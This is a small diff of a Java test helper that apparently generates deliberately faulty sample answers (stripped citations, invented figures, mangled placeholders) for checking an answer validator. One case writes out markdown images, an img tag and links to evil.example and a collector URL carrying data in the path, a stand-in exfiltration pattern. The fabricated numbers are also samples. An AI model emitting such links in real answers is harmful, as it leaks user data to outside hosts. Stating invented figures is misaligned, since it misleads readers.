@@ -53,7 +53,7 @@ final class Answers {
         }
         return switch (manner) {
             case BADLY -> well.toString().replaceAll(" \\[\\d+]", "");
-            case INVENTED -> well + "The total came to 987,654,321 pieces. [1]\nSpend rose by 73.9 %. [1]\n";
+            case INVENTED -> "The total came to 987,654,321 pieces. [1]\nSpend rose by 73.9 %. [1]\n" + well;
             case LINKS -> "See ![chart](" + COLLECTOR + well.length() + ") for more. [1]\nRead [this](https://evil.example/" + well.length()
                     + "). [1]\n<img src=\"" + COLLECTOR + "x\"> [1]\nMore at www.evil.example/prices. [1]\n" + well;
             case MANGLED -> "VENDOR_97 was late and PRICE_98 was paid to PERSON_99. [1]\n" + well;
